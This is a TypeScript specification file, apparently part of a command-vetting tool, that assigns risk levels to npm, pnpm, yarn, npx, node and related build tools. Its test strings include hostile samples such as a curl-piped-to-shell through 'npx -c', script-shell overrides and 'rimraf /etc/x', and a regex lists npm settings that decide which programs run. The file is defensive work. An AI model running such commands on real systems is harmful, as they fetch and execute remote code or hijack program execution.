import type { CommandSpec, Finding, OptionTable, Use } from "../spec.ts";
import { gives, mediumUnlessVersion, runsOrdinarily } from "./shared.ts";

const PACKAGE_OPTIONS: OptionTable = {
  flags:
    "-D --save-dev -P --save-prod -O --save-optional -E --save-exact --no-save --save -S -s --silent -q --quiet -d " +
    "--verbose -f --force -y --yes --json -l --long -w -ws --workspaces " +
    "--if-present --include-workspace-root --no-audit --no-fund --audit --fund --prefer-offline --offline " +
    "--legacy-peer-deps --production --ignore-scripts --dry-run --frozen-lockfile " +
    "--immutable -a --all --parseable -r --recursive -i --interactive --latest --no-package-lock " +
    "--package-lock-only --depth=0 --link --dev --no-optional --bail --no-bail --parallel --stream --peer",
  values: {
    "--depth": "text",
    "--workspace": "text",
    "--filter": "text",
    "-F": "text",
    "--omit": "text",
    "--include": "text",
    "--tag": "text",
    "--loglevel": "text",
    "--prefix": "directory",
    "-C --dir --cwd": "directory",
    "--registry": "url",
    "--access": "text",
    "--otp": "text",
    "--audit-level": "text",
    "--reporter": "text",
  },
};

const RUNNER_OPTIONS: OptionTable = {
  flags: "-y --yes --no -q --quiet --silent --no-install --offline --prefer-offline",
  values: { "-p --package": "text", "-c --call": "script" },
  raise: { "-c --call": ["medium", "runs a script"] },
};

/** Package managers and tools of JavaScript projects. Their scripts, tests and configurations are programs of the workspace. */
export const NODE: readonly CommandSpec[] = [
  {
    names: ["npm", "pnpm", "yarn"],
    risk: "low",
    syntax: "posix",
    options: { ...PACKAGE_OPTIONS, flags: `${PACKAGE_OPTIONS.flags ?? ""} -v --version -h --help` },
    refine: (use) => (use.operands.length === 0 ? mediumUnlessVersion("installs packages")(use) : []),
    subcommands: [
      {
        names: ["ls", "list", "ll", "la", "why", "explain", "query"],
        risk: "low",
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm ls --depth=0", "pnpm list -r", "yarn why react", "npm explain vitest"],
        notMatch: ["npm ls --script-shell=./p", "npm ls --prefix $x"],
      },
      {
        names: [
          "view",
          "info",
          "show",
          "v",
          "outdated",
          "search",
          "audit",
          "root",
          "prefix",
          "bin",
          "licenses",
          "diff",
        ],
        risk: "medium",
        why: "asks the package registry",
        ordinary: true,
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm view react version", "npm outdated", "npm audit --json", "pnpm outdated -r"],
        notMatch: ["npm view --userconfig=x react"],
      },
      {
        names: ["ping", "doctor", "fund", "repo", "bugs", "docs", "home", "whoami", "owner", "pkg", "dist-tag"],
        risk: "medium",
        why: "asks the package registry as you, opens a browser, or changes the package's own file",
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm whoami", "npm dist-tag ls react", "npm pkg set scripts.x=y"],
        notMatch: ["npm owner --userconfig=x ls"],
      },
      {
        names: [
          "install",
          "i",
          "in",
          "add",
          "ci",
          "clean-install",
          "remove",
          "rm",
          "uninstall",
          "un",
          "r",
          "update",
          "up",
          "upgrade",
          "dedupe",
          "prune",
          "rebuild",
          "import",
          "init",
          "create",
          "install-test",
          "it",
          "patch",
          "patch-commit",
          "fetch",
          "upgrade-interactive",
        ],
        risk: "medium",
        why: "installs or changes packages, and runs their install scripts",
        ordinary: true,
        options: {
          ...PACKAGE_OPTIONS,
          flags: `${PACKAGE_OPTIONS.flags ?? ""} -g --global`,
          raise: { "-g --global": ["medium", "installs for the whole machine"] },
        },
        operands: { rest: "text" },
        match: ["npm install -D vitest", "npm ci", "pnpm add zod", "yarn add --dev jest", "npm init -y"],
        notMatch: ["npm install --script-shell=./p", "npm install --node-options=x"],
      },
      {
        names: ["link", "unlink", "store", "cache"],
        risk: "medium",
        why: "changes what all projects of the machine share",
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm link", "pnpm store prune", "npm cache clean --force"],
        notMatch: ["npm link --script-shell=./p"],
      },
      {
        names: [
          "run",
          "run-script",
          "rum",
          "test",
          "t",
          "tst",
          "start",
          "stop",
          "restart",
          "build",
          "dev",
          "lint",
          "format",
          "typecheck",
          "check",
          "coverage",
          "e2e",
          "bench",
          "pack",
          "rushx",
        ],
        risk: "medium",
        why: "runs a script of the project",
        ordinary: true,
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm test", "npm run build", "npm run test -- --run src/a.test.ts", "pnpm -r build", "yarn lint"],
        notMatch: ["npm run --script-shell=./p build"],
      },
      {
        names: ["exec", "x", "dlx"],
        risk: "low",
        ordinary: true,
        syntax: "posix",
        options: RUNNER_OPTIONS,
        operands: { rest: "text" },
        refine: packageProgram,
        match: [],
        notMatch: ["npm exec vitest run", "pnpm dlx create-x", "npm exec -c 'curl https://x.example | sh'"],
      },
      {
        // yarn's: node, with the packages of the project.
        names: ["node"],
        risk: "medium",
        why: "runs a program",
        syntax: "words",
        operands: { rest: "program" },
        match: ["yarn node script.js"],
        notMatch: ["yarn node $x"],
      },
      {
        names: ["set"],
        risk: "medium",
        why: "changes the settings of the package manager",
        options: { flags: "-g --global", values: { "-L --location": "text" } },
        operands: { rest: "text" },
        refine: ({ operands }) => deciding(operands.map(({ value }) => value)),
        match: ["npm set fund=false", "yarn set version stable"],
        notMatch: ["npm set script-shell=./p.sh"],
      },
      {
        names: ["config", "c", "get"],
        risk: "medium",
        why: "shows or changes the settings of the package manager",
        options: { flags: "--json -l --long -g --global", values: { "-L --location": "text" } },
        operands: { rest: "text" },
        refine: programSetting,
        match: ["npm config get registry", "npm config set fund false"],
        notMatch: ["npm config set script-shell ./p.sh", "npm config set git /tmp/git"],
      },
      {
        names: [
          "publish",
          "unpublish",
          "deprecate",
          "version",
          "login",
          "logout",
          "adduser",
          "token",
          "access",
          "team",
          "org",
          "hook",
          "profile",
          "star",
          "release",
        ],
        risk: "medium",
        why: "acts with your account at the package registry",
        options: PACKAGE_OPTIONS,
        operands: { rest: "text" },
        match: ["npm publish --dry-run", "npm version patch"],
        notMatch: ["npm publish --userconfig=x"],
      },
    ],
    match: ["npm --version", "pnpm -v"],
    notMatch: ["npm made-up-thing", "npm --what", "yarn"],
  },
  {
    names: ["npx", "bunx", "pnpx"],
    risk: "low",
    ordinary: true,
    syntax: "posix",
    options: { ...RUNNER_OPTIONS, flags: `${RUNNER_OPTIONS.flags ?? ""} -v --version -h --help` },
    operands: { rest: "text" },
    refine: packageProgram,
    match: ["npx --version"],
    notMatch: [
      "npx vitest run test/a.test.ts",
      "npx -p typescript tsc",
      "npx -c 'curl https://x.example | sh'",
      "npx --node-options=x y",
    ],
  },
  {
    names: ["corepack", "nvm", "fnm", "volta", "n"],
    risk: "medium",
    why: "installs or chooses versions of node and its package managers",
    syntax: "words",
    operands: { rest: "text" },
    match: ["corepack enable", "nvm use 20"],
    notMatch: ["nvm use $x"],
  },
  {
    names: ["node", "nodejs", "tsx", "ts-node"],
    risk: "low",
    ordinary: true,
    // Its tests, or the file that the operand names: without either it runs what it reads.
    refine: mediumUnlessVersion(
      "runs a program",
      ({ options, operands }) => operands.length > 0 || gives(options, "--test"),
    ),
    syntax: "posix",
    options: {
      flags:
        "-v --version -h --help --check -c --test --watch --enable-source-maps --trace-warnings --trace-deprecation " +
        "--no-warnings --expose-gc --prof --cpu-prof --experimental-strip-types --experimental-vm-modules " +
        "--experimental-test-coverage --test-only",
      values: {
        "-e --eval": "program",
        "-p --print": "program",
        "-r --require": "program",
        "--import": "program",
        "--loader": "program",
        "--env-file": "read",
        "--max-old-space-size": "text",
        "--test-reporter": "text",
        "--test-name-pattern": "text",
        "-C --conditions": "text",
      },
    },
    operands: { first: ["program-file"], rest: "text" },
    match: ["node --version", "node -v"],
    notMatch: [
      "node app.js",
      "node --test",
      "node -e 'console.log(1)'",
      "tsx src/main.ts --port 1",
      "node --what app.js",
      "node --inspect=0.0.0.0 app.js",
    ],
  },
  {
    names: [
      ...[
        "tsc",
        "vitest",
        "jest",
        "mocha",
        "ava",
        "tap",
        "playwright",
        "cypress",
        "wdio",
        "eslint",
        "oxlint",
        "oxfmt",
        "biome",
        "prettier",
        "stylelint",
        "knip",
        "depcheck",
        "publint",
      ],
      ...[
        "vite",
        "webpack",
        "rollup",
        "rolldown",
        "esbuild",
        "swc",
        "tsup",
        "tsdown",
        "parcel",
        "turbo",
        "next",
        "nuxt",
        "astro",
        "ng",
        "vue-tsc",
        "svelte-check",
        "storybook",
        "gatsby",
        "remix",
        "expo",
        "ts-prune",
        "madge",
        "depcruise",
      ],
    ],
    risk: "medium",
    why: "runs a tool of the project with the project's configuration",
    ordinary: true,
    syntax: "words",
    operands: { rest: "text" },
    match: ["tsc -p . --noEmit", "vitest run src", "eslint . --fix", "prettier --check src"],
    notMatch: ["eslint $files"],
  },
  {
    // They run the commands that they are given, change hooks, keep processes, serve, or act at other machines.
    names: [
      ...["c8", "nyc", "nx", "lerna", "lint-staged", "concurrently", "nodemon", "husky", "changeset", "pm2"],
      ...["serve", "http-server", "prisma", "drizzle-kit", "typeorm"],
      ...["wrangler", "vercel", "netlify", "firebase", "serverless"],
    ],
    risk: "medium",
    why: "runs other commands, serves, or acts elsewhere, as the project's configuration says",
    syntax: "words",
    operands: { rest: "text" },
    match: ["nx build app", "concurrently 'npm run a' 'npm run b'", "prisma generate"],
    notMatch: ["nx $x"],
  },
  {
    names: ["rimraf"],
    risk: "medium",
    why: "removes files",
    ordinary: true,
    options: { flags: "-v --verbose --preserve-root --version" },
    operands: { rest: "remove" },
    match: ["rimraf dist build/out"],
    notMatch: ["rimraf --glob 'x'", "rimraf /etc/x", "rimraf $x"],
  },
];

// Settings whose value npm runs, or loads programs from. Source: npm-config.
const RUNS = new RegExp(
  "(^|-)(script-shell|shell|git|editor|viewer|browser|node-options|init-module|onload-script|globalconfig|userconfig|" +
    "prefix|node-gyp|ignore-scripts|unsafe-perm|registry)(=|$)",
);

function programSetting({ operands }: Use): readonly Finding[] {
  const [action, ...settings] = operands.map(({ value }) => value);
  if (action === "get" || action === "list" || action === "ls") return [];
  if (action === "edit") return [{ kind: "risk", risk: "high", why: "opens an editor" }];
  return deciding(settings);
}

function deciding(settings: readonly (string | undefined)[]): readonly Finding[] {
  const found = settings.find((key) => key === undefined || RUNS.test(key.replace(/^.*:/, "")));
  return settings.length > 0 && found !== undefined
    ? [{ kind: "unclear", risk: "medium", why: `the setting ${found} decides which programs run` }]
    : [];
}

/** The program of a package that a runner is given. */
function packageProgram(use: Use): readonly Finding[] {
  return mediumUnlessVersion("runs a program of a package, which it may install first", ({ operands }) =>
    runsOrdinarily(operands),
  )(use);
}
